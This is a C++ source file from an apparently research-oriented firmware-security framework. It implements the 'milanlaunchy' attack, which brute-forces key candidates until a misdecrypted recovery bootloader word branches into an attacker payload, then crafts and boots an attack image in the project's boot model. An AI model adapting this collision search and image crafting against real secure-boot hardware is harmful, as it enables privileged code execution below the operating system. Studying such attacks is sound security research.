// Copyright aspforge contributors.
// Licensed under the Apache License, Version 2.0, see LICENSE for details.
// SPDX-License-Identifier: Apache-2.0

#include "aspforge/attack/milanlaunchy.hpp"

#include <cstring>

#include "aspforge/boot/branch.hpp"
#include "aspforge/crypto/sha256.hpp"

namespace aspforge::attack {

namespace {

uint32_t prefix_mask(unsigned match_bits) {
  if (match_bits == 0) return 0;
  if (match_bits >= 32) return 0xFFFFFFFFu;
  return ~((1u << (32 - match_bits)) - 1);
}

uint64_t default_budget(unsigned match_bits) {
  unsigned shift = match_bits + 4;
  if (shift > 62) shift = 62;
  return 1ull << shift;
}

}  // namespace

CollisionSearchSpec CollisionSearchSpec::from_recovery(
    const fw::FirmwareModule& recovery, const crypto::Key128& bootrom_key,
    unsigned match_bits, uint64_t rng_seed) {
  if (!recovery.encrypted() || recovery.body.size() < 16)
    throw std::invalid_argument("collision search needs an encrypted recovery module");
  CollisionSearchSpec spec;
  spec.bootrom_key = bootrom_key;
  spec.wrapped_mek = recovery.wrapped_mek;
  spec.iv = recovery.iv;
  std::memcpy(spec.first_cipher_block.data(), recovery.body.data(), 16);
  spec.recovery_load_addr = recovery.load_addr;
  spec.match_bits = match_bits;
  spec.rng_seed = rng_seed;
  return spec;
}

CandidateStream::CandidateStream(uint64_t rng_seed, uint64_t start_counter)
    : cipher_([rng_seed] {
        Bytes material;
        append(material, str_view("aspforge.milanlaunchy.candidates.v1"));
        append_u64le(material, rng_seed);
        auto d = crypto::sha256(as_view(material));
        crypto::Key128 k{};
        std::memcpy(k.data(), d.data(), 16);
        return k;
      }()),
      counter_(start_counter) {}

crypto::Key128 CandidateStream::next() {
  uint8_t ctr[16] = {0};
  put_u32le(ctr, static_cast<uint32_t>(counter_));
  put_u32le(ctr + 4, static_cast<uint32_t>(counter_ >> 32));
  ++counter_;
  crypto::Key128 out;
  cipher_.encrypt_block(ctr, out.data());
  return out;
}

uint32_t first_plain_word(const CollisionSearchSpec& spec, const crypto::Key128& ikek) {
  auto plain = fw::first_plain_block(ikek, spec.wrapped_mek, spec.iv,
                                     spec.first_cipher_block);
  return read_u32le(plain.data());
}

std::optional<CollisionFound> milanlaunchy_search(const CollisionSearchSpec& spec) {
  auto target = boot::encode_branch(spec.recovery_load_addr, spec.branch_target);
  if (!target) return std::nullopt;
  uint32_t mask = prefix_mask(spec.match_bits);
  uint64_t budget = spec.trial_budget ? spec.trial_budget : default_budget(spec.match_bits);

  CandidateStream stream(spec.rng_seed);
  for (uint64_t i = 0; i < budget; ++i) {
    crypto::Key128 candidate = stream.next();
    uint32_t word = first_plain_word(spec, candidate);
    if (((word ^ *target) & mask) == 0) return CollisionFound{candidate, i + 1};
  }
  return std::nullopt;
}

MilanLaunchyRun run_milanlaunchy(fuse::FuseArray& fuses,
                                 const fw::FlashImage& legacy_flash,
                                 const boot::BootRomConfig& config,
                                 unsigned match_bits, uint64_t rng_seed,
                                 uint32_t payload_id,
                                 const boot::PayloadRegistry& hooks,
                                 BytesView payload_body) {
  MilanLaunchyRun run;

  auto recovery = legacy_flash.module(fw::EntryType::RecoveryBl);
  if (!recovery || !recovery->encrypted()) {
    run.failure = "legacy flash has no encrypted recovery module";
    return run;
  }

  CollisionSearchSpec spec =
      CollisionSearchSpec::from_recovery(*recovery, config.bootrom_key, match_bits,
                                         rng_seed);
  auto target = boot::encode_branch(spec.recovery_load_addr, spec.branch_target);
  if (!target) {
    run.failure = "branch target unencodable from recovery load address";
    return run;
  }

  const uint32_t mask = prefix_mask(match_bits);
  const size_t head_size = fw::make_payload_descriptor(payload_id, payload_body).size();
  const uint32_t base = fw::kAttackLoadAddr;

  // A matched candidate is usable when its misdecrypted word either hits the
  // descriptor exactly or lands where the trampoline sled can reach.
  unsigned budget_shift = match_bits + 8;
  if (budget_shift < 22) budget_shift = 22;
  if (budget_shift > 62) budget_shift = 62;
  const uint64_t budget = 1ull << budget_shift;

  CandidateStream stream(rng_seed);
  std::optional<crypto::Key128> found;
  uint32_t landing = 0;
  while (stream.drawn() < budget) {
    crypto::Key128 candidate = stream.next();
    uint32_t word = first_plain_word(spec, candidate);
    if (((word ^ *target) & mask) != 0) continue;
    auto decoded = boot::decode_branch(word, spec.recovery_load_addr);
    if (!decoded) continue;
    bool direct = (*decoded == base);
    bool sled_reach = (*decoded >= base + head_size &&
                       static_cast<size_t>(*decoded) + 4 <= config.sram_size);
    if (direct || sled_reach) {
      found = candidate;
      landing = *decoded;
      run.first_word = word;
      break;
    }
  }
  run.trials = stream.drawn();

  if (!found) {
    run.failure = "collision search budget exceeded";
    return run;
  }
  run.ikek = *found;
  run.landing = landing;

  run.image = fw::craft_attack_image(*found, *recovery, payload_body,
                                     config.bootrom_key, payload_id, config.sram_size);
  run.outcome = boot::boot(fuses, run.image, config, hooks);

  run.success = run.outcome.code_exec_event &&
                run.outcome.code_exec_event->attacker_controlled &&
                run.outcome.code_exec_event->branch_target == base;
  if (!run.success && run.failure.empty()) run.failure = "boot did not reach the payload";

  run.transcript = nlohmann::json{
      {"attack", "milanlaunchy"},
      {"match_bits", match_bits},
      {"rng_seed", rng_seed},
      {"trials", run.trials},
      {"collision_ikek", to_hex(as_view(run.ikek))},
      {"first_plain_word", run.first_word},
      {"landing", run.landing},
      {"success", run.success},
      {"boot_outcome", run.outcome.to_json()},
  };
  if (!run.failure.empty()) run.transcript["failure"] = run.failure;
  return run;
}

}  // namespace aspforge::attack
